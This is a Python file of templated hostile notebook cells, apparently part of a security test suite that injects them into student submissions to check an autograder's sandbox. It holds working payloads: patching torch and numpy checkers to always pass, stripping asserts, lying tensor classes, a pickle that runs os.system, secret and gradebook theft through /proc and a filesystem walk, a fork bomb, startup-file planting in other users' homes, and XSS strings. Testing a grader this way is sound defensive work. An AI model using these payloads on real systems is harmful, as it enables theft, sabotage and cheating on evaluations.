"""Source of the hostile cells injected into submissions.

Each payload is a `string.Template`: `$S` is this run's sentinel (hex, safe inside strings), the
other names are Python literals of what the test knows about the host (the real course folder,
the repository, the instructor's home, a listening port...), so a payload can aim at the real
targets instead of guessing. None of them contains the instructor's secret itself.

Payloads are written to *do* the attack, whatever the grader looks like; the tests never look
for these strings in the grader's code, only at what the grading produced.
"""

from __future__ import annotations

from string import Template

# ------------------------------------------------------------------------ patch the checker

PATCH_CHECKERS = Template(r"""
# Make every checker a test could use in this kernel say "equal", and assertion errors harmless.
import builtins
import numpy as np
import numpy.testing
import torch
import torch.testing

def _always_true(*args, **kwargs):
    return True

def _never_raise(*args, **kwargs):
    return None

torch.allclose = _always_true
torch.equal = _always_true
torch.testing.assert_close = _never_raise
torch.Tensor.__eq__ = lambda self, other: True
np.allclose = _always_true
np.array_equal = _always_true
np.testing.assert_allclose = _never_raise
np.testing.assert_array_equal = _never_raise

class AssertionError(Exception):  # noqa: A001 - the point is to shadow it
    pass

builtins.AssertionError = AssertionError
print("checkers patched")
""")

# ------------------------------------------------------------------------ poison the reference

POISON_SIGMOID = Template(r"""
# Every sigmoid in this kernel becomes the identity: a test that computed its expected value
# here would expect exactly the (wrong) pre-activation this notebook returns.
import torch
import torch.nn.functional as F
from torch import nn

_saved_sigmoids = (torch.sigmoid, F.sigmoid, nn.Sigmoid.forward, torch.Tensor.sigmoid)
torch.sigmoid = lambda t, *args, **kwargs: t
F.sigmoid = lambda t, *args, **kwargs: t
nn.Sigmoid.forward = lambda self, t: t
torch.Tensor.sigmoid = lambda self: self
print("sigmoid poisoned")
""")

UNPOISON_SIGMOID = Template(r"""
torch.sigmoid, F.sigmoid, nn.Sigmoid.forward, torch.Tensor.sigmoid = _saved_sigmoids
""")

# ------------------------------------------------------------------------ rewrite later cells

REWRITE_CELLS = Template(r"""
# From now on every cell is wrapped in try/except, loses its asserts, and any cell that looks
# like a test cell is replaced by `pass` before it runs.
import ast
from IPython import get_ipython

ip = get_ipython()

def _wrap_in_try(lines):
    body = "".join("    " + line if line.strip() else line for line in lines)
    if not body.endswith("\n"):
        body += "\n"
    return ["try:\n", body + "    pass\n", "except BaseException:\n", "    pass\n"]

class _DropAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

def _looks_like_a_test(raw_cell):
    return raw_cell.lstrip().startswith(("import", "from")) and "assert " in raw_cell

ip.input_transformers_post.append(_wrap_in_try)
ip.ast_transformers.append(_DropAsserts())

_run_cell = ip.run_cell
_run_cell_async = ip.run_cell_async

def _hijacked_run_cell(raw_cell, *args, **kwargs):
    if _looks_like_a_test(raw_cell):
        raw_cell = "pass\n"
    return _run_cell(raw_cell, *args, **kwargs)

async def _hijacked_run_cell_async(raw_cell, *args, **kwargs):
    if _looks_like_a_test(raw_cell):
        raw_cell = "pass\n"
        kwargs["transformed_cell"] = "pass\n"
        kwargs.pop("preprocessing_exc_tuple", None)
    return await _run_cell_async(raw_cell, *args, **kwargs)

ip.run_cell = _hijacked_run_cell
ip.run_cell_async = _hijacked_run_cell_async
print("later cells rewritten")
""")

# ------------------------------------------------------------------------ fake results

FAKE_RESULTS = Template(r'''
# Wrong values dressed up to compare equal to anything and to look like the right types.
import torch
from torch import nn

W = torch.tensor([[1., -2., 2.]])

class Liar(torch.Tensor):
    """A tensor that equals everything and makes allclose/equal say yes."""
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __bool__(self):
        return True
    __hash__ = torch.Tensor.__hash__
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.__eq__, torch.Tensor.equal):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

lemur = torch.tensor([[4, 0, 1]]).as_subclass(Liar)  # still int64 underneath

class Linear(nn.Linear):
    """Claims to be torch's Linear; its forward ignores its (wrong) weights."""
    def forward(self, x):
        return x @ W.T

Linear.__module__ = "torch.nn.modules.linear"
Linear.__qualname__ = "Linear"
layer = Linear(3, 1)
with torch.no_grad():
    layer.weight.copy_(torch.tensor([[1., 1., 1.]]))
    layer.bias.zero_()

class Spoof:
    """Not a tensor at all, but says it is one, equals everything, and lies to numpy and torch."""
    __class__ = property(lambda self: torch.Tensor)
    def __init__(self, inner):
        object.__setattr__(self, "_inner", inner)
    def __getattr__(self, name):
        return getattr(object.__getattribute__(self, "_inner"), name)
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __bool__(self):
        return True
    def __array__(self, *args, **kwargs):
        import numpy as np
        return np.array([[0.9975]], dtype=np.float32)
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True
    def __len__(self):
        return 1

def mammal_probability(features):
    return Spoof(features @ W.T)  # the pre-activation, no sigmoid

def predict_mammal(features):
    return features @ W.T > 0

print(type(lemur).__name__, type(layer).__module__, isinstance(mammal_probability(lemur.float()), torch.Tensor))
''')

# ------------------------------------------------------------------------ forge the grader's probes

FORGE_PROBES = Template(r"""
# Answer the grader's questions ourselves: whatever the grader asks about `lemur`, `layer` or
# `mammal_probability`, publish a crafted description instead of the real one. One of them is
# a pickle that would run a command on the grader's machine if it were ever unpickled.
import base64, io, json, os, sys
import numpy as np
import IPython.display

class _RunsOnLoad:
    def __reduce__(self):
        return (os.system, ("touch /tmp/threat-$S-unpickled",))

_buffer = io.BytesIO()
np.save(_buffer, np.array([_RunsOnLoad()], dtype=object), allow_pickle=True)
_PICKLE_NPY = base64.b64encode(_buffer.getvalue()).decode()

_buffer = io.BytesIO()
np.save(_buffer, np.array([[1., -2., 2.]], dtype=np.float64), allow_pickle=False)
_FLOAT64_NPY = base64.b64encode(_buffer.getvalue()).decode()

_FORGED = {
    "lemur": {"t": "tensor", "dtype": "float32", "shape": [1], "npy": _PICKLE_NPY, "requires_grad": False},
    "layer": {"t": "module", "type": "Linear", "custom": False, "ref": ["layer"], "training": False,
              "args": {"in_features": 3, "out_features": 1, "bias": False}, "children": [],
              "state": [["weight", {"t": "tensor", "dtype": "float32", "shape": [1, 3], "npy": _FLOAT64_NPY,
                                    "requires_grad": True}]]},
    "mammal_probability": {"t": "opaque", "type": "Tensor"},
}
_requests = []
_publish = IPython.display.publish_display_data
_loads = json.loads

def _recording_loads(text, *args, **kwargs):
    value = _loads(text, *args, **kwargs)
    if isinstance(value, dict) and "op" in value:
        _requests.append(value)
    return value

def _forging_publish(data, *args, **kwargs):
    request = _requests[-1] if _requests else {}
    name = request.get("name") if request.get("op") == "fetch" else (request.get("ref") or [None])[0]
    if name in _FORGED and isinstance(data, dict):
        data = {mime: _FORGED[name] for mime in data}
    return _publish(data, *args, **kwargs)

json.loads = _recording_loads
IPython.display.publish_display_data = _forging_publish
print("probes forged")
""")

PRINT_RECORDED_PROBES = Template(r"""
# What did the grader ask? (Arguments the hidden tests passed are visible to the learner's code.)
print("requests seen:", len(_requests))
""")

# ------------------------------------------------------------------------ sys.modules tricks

SYS_MODULES = Template(r"""
# Replace torch and numpy in sys.modules by proxies whose checkers always agree, and make
# `import` hand out the proxies.
import builtins, sys, types
import numpy, torch

class _Agreeable(types.ModuleType):
    def __init__(self, real):
        super().__init__(real.__name__)
        object.__setattr__(self, "_real", real)
    def __getattr__(self, name):
        if name in ("allclose", "equal", "array_equal", "isclose"):
            return lambda *args, **kwargs: True
        return getattr(object.__getattribute__(self, "_real"), name)

sys.modules["torch"] = _Agreeable(torch)
sys.modules["numpy"] = _Agreeable(numpy)
_real_import = builtins.__import__

def _import(name, globals=None, locals=None, fromlist=(), level=0):
    module = _real_import(name, globals, locals, fromlist, level)
    if level == 0 and name in ("torch", "numpy"):
        return sys.modules[name]
    return module

builtins.__import__ = _import
import torch
print("torch is now", type(torch).__name__, torch.allclose(torch.zeros(1), torch.ones(1)))
""")

# ------------------------------------------------------------------------ read secrets

READ_SECRETS = Template(r"""
# Look for hidden tests, solutions, the gradebook, the instructor's files and environment, and
# other learners' work; print whatever can be read.
import glob, os, sqlite3, sys

COURSE, REPO, HONEST = $COURSE, $REPO, $HONEST
KEYS = (b"BEGIN HIDDEN", b"BEGIN SOLUTION", b"SECRET-", b"OTHER-LEARNER-", b"grade_cell", b"source_cell")

def show(path, data):
    text = data.decode("utf-8", "replace") if isinstance(data, bytes) else str(data)
    print("=== READ", path, len(text))
    print(text[:3000])

def attempt(path):
    try:
        with open(path, "rb") as f:
            data = f.read(2_000_000)
    except Exception as error:
        print("--- cannot read", path, type(error).__name__)
        return None
    show(path, data)
    if data[:16] == b"SQLite format 3\x00":
        try:
            con = sqlite3.connect("file:%s?mode=ro" % path, uri=True)
            print("SQL", con.execute("select name, source from source_cell").fetchall())
        except Exception as error:
            print("--- sql", path, type(error).__name__)
    return data

wanted = ["source/01-lemur/01-lemur.ipynb", "gradebook.db", "nbgrader_config.py", "instructor-notes.txt",
          "solutions/01-lemur/01-lemur.ipynb", "submitted/%s/01-lemur/01-lemur.ipynb" % HONEST,
          "autograded/%s/01-lemur/01-lemur.ipynb" % HONEST]
for depth in range(0, 7):
    for rel in wanted:
        attempt(os.path.join(*([".."] * depth + [rel])))
for rel in wanted:
    attempt(os.path.join(COURSE, rel))
for rel in ("source/01-lemur/01-lemur.ipynb", "gradebook.db", "grades.json"):
    attempt(os.path.join(REPO, rel))
for pid in ("1", "2", str(os.getppid()), "self"):
    for what in ("environ", "cmdline", "root" + COURSE + "/gradebook.db", "root" + COURSE + "/instructor-notes.txt",
                 "cwd/gradebook.db", "root/proc/1/environ"):
        attempt("/proc/%s/%s" % (pid, what))
for pattern in ("/proc/*/environ", "/proc/*/root" + COURSE + "/instructor-notes.txt", "/proc/*/cwd/*.db",
                "/proc/*/root/tmp/*/submitted/*/*/*.ipynb"):
    for path in glob.glob(pattern):
        attempt(path)
print("ENVIRONMENT", dict(os.environ))
skip = ("/proc", "/sys", "/dev", "/usr", os.path.realpath(sys.prefix), os.path.realpath(sys.base_prefix))
seen = 0
for top, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if not os.path.join(top, d).startswith(skip)]
    for name in files:
        path = os.path.join(top, name)
        if not os.path.isfile(path):  # no FIFOs or sockets: they would block
            continue
        try:
            with open(path, "rb") as f:
                data = f.read(2_000_000)
        except Exception:
            continue
        seen += 1
        if any(key in data for key in KEYS):
            show(path, data)
print("files read in the walk:", seen)
""")

# ------------------------------------------------------------------------ write and connect

WRITE_AND_CONNECT = Template(r"""
# Try to change the course, the gradebook, the instructor's files and the Python the grader
# runs; then try to reach the host over TCP, an abstract unix socket and DNS.
import os, socket, sqlite3

S, COURSE, REPO, HOSTHOME, HONEST, SITE = "$S", $COURSE, $REPO, $HOSTHOME, $HONEST, $SITE
PTH = "import os; os.system('touch /tmp/threat-%s-pth-ran')\n" % S
targets = [
    os.path.join(COURSE, "threat-%s-course.txt" % S),
    os.path.join(COURSE, "source", "01-lemur", "threat-%s-source.txt" % S),
    os.path.join(COURSE, "submitted", HONEST, "01-lemur", "threat-%s-other.txt" % S),
    os.path.join(REPO, "threat-%s-repo.txt" % S),
    "/tmp/threat-%s-tmp.txt" % S,
    "/dev/shm/threat-%s-shm.txt" % S,
    "/var/tmp/threat-%s-vartmp.txt" % S,
    os.path.join(HOSTHOME, "threat-%s-home.txt" % S),
    os.path.join(SITE, "threat-%s.pth" % S),
]
for pid in ("1", "2", str(os.getppid())):
    targets.append("/proc/%s/root/tmp/threat-%s-proc-%s.txt" % (pid, S, pid))
    targets.append("/proc/%s/root%s/threat-%s-procroot-%s.txt" % (pid, COURSE, S, pid))
    targets.append("/proc/%s/cwd/threat-%s-proccwd-%s.txt" % (pid, S, pid))
for depth in range(1, 7):
    targets.append(os.path.join(*([".."] * depth + ["threat-%s-up%d.txt" % (S, depth)])))
for target in targets:
    try:
        os.makedirs(os.path.dirname(target) or ".", exist_ok=True)
        with open(target, "w") as f:
            f.write(PTH)
        print("WROTE", target)
    except Exception as error:
        print("cannot write", target, type(error).__name__)
for db in (os.path.join(COURSE, "gradebook.db"), os.path.join(REPO, "gradebook.db"), "../../gradebook.db"):
    try:
        con = sqlite3.connect("file:%s?mode=rw" % db, uri=True)
        con.execute("UPDATE grade SET extra_credit = 100, manual_score = 100")
        con.commit()
        print("UPDATED", db)
    except Exception as error:
        print("cannot update", db, type(error).__name__)
    for name, action in (("append", lambda: open(db, "ab").write(b"x")), ("remove", lambda: os.remove(db)),
                         ("rename", lambda: os.rename(db, db + ".bak"))):
        try:
            action()
            print("CHANGED", name, db)
        except Exception as error:
            print("cannot", name, db, type(error).__name__)
try:
    with open(os.path.join(COURSE, "nbgrader_config.py"), "a") as f:
        f.write("\nc.Limits.isolation = 'none'\n")
    print("CONFIG CHANGED")
except Exception as error:
    print("cannot change the config", type(error).__name__)

for host in ("127.0.0.1", "localhost", $HOSTIP):
    try:
        with socket.create_connection((host, $TCP_PORT), timeout=2) as s:
            s.sendall(b"threat-$S")
        print("CONNECTED", host)
    except Exception as error:
        print("no connection to", host, type(error).__name__)
try:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as u:
        u.settimeout(2)
        u.connect("\0" + $ABSTRACT)
        u.sendall(b"threat-$S")
    print("CONNECTED abstract socket")
except Exception as error:
    print("no abstract socket", type(error).__name__)
try:
    print("DNS", socket.getaddrinfo("example.com", 80)[:1])
except Exception as error:
    print("no DNS", type(error).__name__)
""")

# ------------------------------------------------------------------------ kill or hang

OS_EXIT = Template("import os\nos._exit(0)\n")
EXIT = Template("exit()\n")
IGNORE_SIGNALS_AND_SPIN = Template(r"""
import signal
for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM, signal.SIGUSR1):
    signal.signal(sig, signal.SIG_IGN)
while True:
    pass
""")
SLEEP_UNDER_CELL_LIMIT = Template("import time\ntime.sleep(4.8)  # just under the 5 s cell limit\n")

FORK_BOMB = Template(r'''
# A small helper process forks sleepers until the system refuses and reports how many it got;
# then a self-replicating fork bomb (marked in its argv) is left behind in a session of its own.
import subprocess, sys

COUNTER = """
import os, time
count, children = 0, []
try:
    while count < 10_000:
        pid = os.fork()
        if pid == 0:
            time.sleep(600)
            os._exit(0)
        children.append(pid)
        count += 1
    print("FORKS-UNLIMITED", count)
except OSError as error:
    print("FORKS-LIMITED", count, error.errno)
for pid in children:
    os.kill(pid, 9)
    os.waitpid(pid, 0)
"""
try:
    counted = subprocess.run([sys.executable, "-S", "-c", COUNTER], capture_output=True, text=True, timeout=4)
    print(counted.stdout, counted.stderr[-300:])
except subprocess.TimeoutExpired:
    print("FORKS-UNLIMITED (still forking after 4 s)")
BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
subprocess.Popen([sys.executable, "-S", "-c", BOMB, "threat-$S-forkbomb"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("fork bomb started")
''')

DAEMON_GRANDCHILD = Template(r"""
# Double fork and setsid: a grandchild that ignores polite signals and sleeps for ten minutes,
# with a marker in its argv.
import os, sys

SLEEPER = ("import signal, time\n"
           "for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
           "    signal.signal(sig, signal.SIG_IGN)\n"
           "time.sleep(600)\n")
child = os.fork()
if child == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", SLEEPER, "threat-$S-daemon"])
    finally:
        os._exit(0)
os.waitpid(child, 0)
print("daemon started")
""")

# ------------------------------------------------------------------------ exhaust

EXHAUST_MEMORY_AND_DISK = Template(r"""
import os

try:
    hog = bytearray(3 * 1024**3)
    print("MEMORY-UNLIMITED", len(hog) // 2**20)
    del hog
except MemoryError:
    print("MEMORY-LIMITED")

home = os.path.expanduser("~")
written = 0
try:
    for i in range(10_000):
        with open(os.path.join(home, "fill-%d" % i), "wb") as f:
            for _ in range(8):
                f.write(b"\0" * 2**20)
                written += 2**20
    print("DISK-UNLIMITED", written // 2**20)
except OSError as error:
    print("DISK-LIMITED", written // 2**20, error.errno)
for i in range(10_000):
    try:
        os.remove(os.path.join(home, "fill-%d" % i))
    except OSError:
        break

size = 0
try:
    with open(os.path.join(home, "one-big-file"), "wb") as f:
        while size < 2 * 1024**3:
            f.write(b"\0" * 2**20)
            f.flush()
            size += 2**20
    print("FILE-UNLIMITED", size // 2**20)
except OSError as error:
    print("FILE-LIMITED", size // 2**20, error.errno)
try:
    os.remove(os.path.join(home, "one-big-file"))
except OSError:
    pass
""")

ONE_HUGE_LINE = Template('print("x" * 50_000_000)  # 50 MB on one line\n')
MILLION_PRINTS = Template("for i in range(1_000_000):\n    print(i)\n")

HUGE_LAYER_ARGS = Template(r"""
# The layer still computes 1*limbs - 2*eggs + 2*hair, but claims to be 24000 x 24000: a grader
# that rebuilds layers from their hyper-parameters would allocate 2.3 GB for it.
layer.in_features = 24_000
layer.out_features = 24_000
""")

# ------------------------------------------------------------------------ cross-learner

PLANT_FOR_NEXT_KERNELS = Template(r"""
# Leave IPython startup files wherever a later learner's kernel might make its home, so that
# code of this learner runs in theirs (here it only prints a marker).
import os

MARK = "PLANTED-" + "$S"
home = os.path.realpath(os.path.expanduser("~"))
hook = "get_ipython().events.register('pre_run_cell', lambda *a, **k: print(%r))\n" % MARK
bases = {os.path.dirname(home), os.environ.get("TMPDIR", home), "/tmp", "/var/tmp", "/dev/shm", "/home",
         "/scratch", "/run/user"}
planted = 0
for base in sorted(bases):
    names = {str(n) for n in range(64)} | {"learner", "kernel"}
    try:
        names |= set(os.listdir(base))
    except OSError:
        pass
    for name in sorted(names):
        folder = os.path.join(base, name)
        if os.path.realpath(folder) == home:
            continue
        for sub in (".ipython/profile_default/startup", "tmp/.ipython/profile_default/startup"):
            try:
                os.makedirs(os.path.join(folder, sub), exist_ok=True)
                with open(os.path.join(folder, sub, "00-planted.py"), "w") as f:
                    f.write(hook)
                planted += 1
            except OSError:
                pass
print("startup files planted:", planted)
""")

# ------------------------------------------------------------------------ break the structure

INJECTED_GRADE_CELL = Template(r"""
# A cell that claims to be a graded test. If the grader ran it as a test (in its own process,
# which can see the course folder), it would leave a file on the grader's machine.
import os
if os.path.isdir($COURSE):
    with open("/tmp/threat-$S-injected", "w") as f:
        f.write("this ran in the grader")
    print("RAN-IN-GRADER-$S")
""")

SHADOW_MODULE = Template(
    'print("SHADOWED-$S-{name}")\nraise ImportError("shadow module {name} was imported")\n'
)

# ------------------------------------------------------------------------ script in output

SCRIPT_IN_OUTPUT = Template(r"""
# Active content in every output form a notebook has.
import sys
from IPython.display import HTML, SVG, Javascript, Markdown, display, publish_display_data

display(HTML('<img src=x onerror=alert("XSS-$S-html")><script>alert("XSS-$S-htmlscript")</script>'))
display(Javascript('alert("XSS-$S-js")'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert("XSS-$S-svg")</script></svg>'))
display(Markdown('<script>alert("XSS-$S-md")</script> [x](javascript:alert("XSS-$S-mdlink"))'))
publish_display_data({"text/html": '<iframe src="javascript:alert(1)">XSS-$S-iframe</iframe>', "text/plain": "html"})
publish_display_data({"application/vnd.jupyter.widget-view+json": {"model_id": "XSS-$S-widget"}, "text/plain": "w"})
publish_display_data({"image/png": "iVBORw0KGgo=", "text/plain": "png"},
                     metadata={"image/png": {"width": '1 onerror=alert("XSS-$S-width")',
                                             "height": '1 onload=alert("XSS-$S-height")'}})
publish_display_data({"image/jpeg": "/9j/", "text/plain": "jpeg"},
                     metadata={"filenames": {"image/jpeg": "https://attacker.invalid/XSS-$S-remote.jpg"}})
print('<script>alert("XSS-$S-stdout")</script>')
print('<img src=x onerror=alert("XSS-$S-stderr")>', file=sys.stderr)
""")

SCRIPT_IN_MARKDOWN = Template(
    '<script>alert("XSS-$S-mdcell")</script>\n\n'
    "<div onmouseover=\"alert('XSS-$S-mddiv')\">hover me</div>\n\n"
    '<img src=x onerror=alert("XSS-$S-mdimg")>\n\n'
    '[click me](javascript:alert("XSS-$S-mdhref"))\n\n'
    "![an attachment](attachment:a.png)\n"
)
SCRIPT_IN_RAW = Template(
    '<script>alert("XSS-$S-raw")</script><img src=x onerror=alert("XSS-$S-rawimg")>'
)
SCRIPT_ATTACHMENT = Template("\" onerror=\"alert('XSS-$S-attachment')")
SCRIPT_TAG = Template("x\" onmouseover=\"alert('XSS-$S-tag')")

SCRIPT_IN_ERROR = Template(r"""
def predict_mammal(features):
    raise ValueError('<script>alert("XSS-$S-evalue")</script><img src=x onerror=alert("XSS-$S-evalue2")>')

predict_mammal.__name__ = '<img src=x onerror=alert("XSS-$S-name")>'
""")

# ------------------------------------------------------------------------ honest noise

NOISE_PROGRESS_TO_STDERR = Template(r"""
# A tqdm-like progress bar on stderr, a warning and a print to stderr in a cell.
import sys, warnings
for step in range(51):
    sys.stderr.write("\r[%-50s] %3d%%" % ("#" * step, 2 * step))
    sys.stderr.flush()
sys.stderr.write("\n")
warnings.warn("just a warning from a cell", UserWarning)
print("a line on stderr", file=sys.stderr)
""")

NOISE_HELPER = Template(r"""
def double(x):
    "A helper of my own."
    return 2 * x

print("helper ready:", double(21))
""")

NOISE_PROGRESS_TO_STDOUT = Template(r"""
for step in range(101):
    print("\rtraining %3d%%" % step, end="")
print()
ax = plot_sigmoid(6.0)
ax.figure
""")

# Answers bound to modules named like files the grader must never import, each right after its
# answer cell: the course's own nbgrader_config.py (the course folder is on the grader's path,
# for nbgrader's plugins), a module that acts when imported, a module written in the sandbox.
MODULE_NAMED_LIKE_THE_COURSE_CONFIG = Template(r"""
import types
mammal_probability = types.ModuleType("nbgrader_config")
""")
MODULE_THAT_ACTS_WHEN_IMPORTED = Template(r"""
import types
predict_mammal = types.ModuleType("antigravity")
""")
MODULE_WRITTEN_IN_THE_SANDBOX = Template(r"""
import sys
with open("planted.py", "w") as module:
    module.write("def plot_sigmoid(z):\n    raise SystemExit('planted ran $S')\n")
sys.path.insert(0, ".")
import planted
plot_sigmoid = planted
print("modules by name $S")
""")
